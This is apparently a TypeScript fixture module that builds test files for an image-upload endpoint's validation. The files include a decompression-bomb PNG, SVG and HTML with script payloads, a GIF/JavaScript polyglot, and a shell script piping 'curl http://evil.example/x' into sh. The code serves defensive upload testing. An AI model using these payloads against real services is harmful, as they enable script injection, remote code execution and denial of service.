import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

// Every image the upload tests send is made here, in code; nothing binary is checked in.

export function solid(width: number, height: number, colour = '#3a6ea5') {
  return sharp({ create: { width, height, channels: 3, background: colour } });
}

/** A JPEG stored sideways (EXIF orientation 6) carrying GPS coordinates in its EXIF. */
export function jpegWithGps(width: number, height: number): Promise<Buffer> {
  return solid(width, height)
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'Starmatch Test Camera', Orientation: '6' },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '36/1 50/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '174/1 45/1 0/1',
      },
    })
    .toBuffer();
}

/** True when an EXIF block holds a GPS IFD pointer (tag 0x8825), in either byte order. */
export function hasGpsPointer(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  return exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, checksum]);
}

/** A tiny PNG whose header declares 50000x50000 pixels: a decompression bomb. */
export function pngBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(50_000, 0);
  header.writeUInt32BE(50_000, 4);
  header[8] = 8;
  header[9] = 2;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An uncompressed PNG of noise just over 6 MB. */
export function sixMegabytePng(): Promise<Buffer> {
  const width = 1500;
  const height = 1400;
  return sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();
}

export async function truncatedJpeg(): Promise<Buffer> {
  const jpeg = await solid(800, 600).jpeg().toBuffer();
  return jpeg.subarray(0, Math.floor(jpeg.length / 2));
}

/** Starts like a JPEG (so the magic number passes) and is noise after that. */
export function jpegMagicThenNoise(): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(4096)]);
}

export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(1)</script><rect width="64" height="64"/></svg>',
);
export const HTML = Buffer.from(
  '<!doctype html><html><body><script>alert(1)</script></body></html>',
);
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n',
);
/** A ZIP local file header and a stored file: enough for any sniffer to call it a ZIP. */
export const ZIP = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  Buffer.alloc(12),
  Buffer.from([5, 0, 0, 0]),
  Buffer.from('a.txthello'),
]);
/** A GIF header followed by script: a polyglot a browser sniffing content could run. */
export const GIF_POLYGLOT = Buffer.from('GIF89a/*\x00\x00*/=1;alert(document.domain);//');
export const TEXT = Buffer.from('This is not a picture, whatever the Content-Type says.\n');
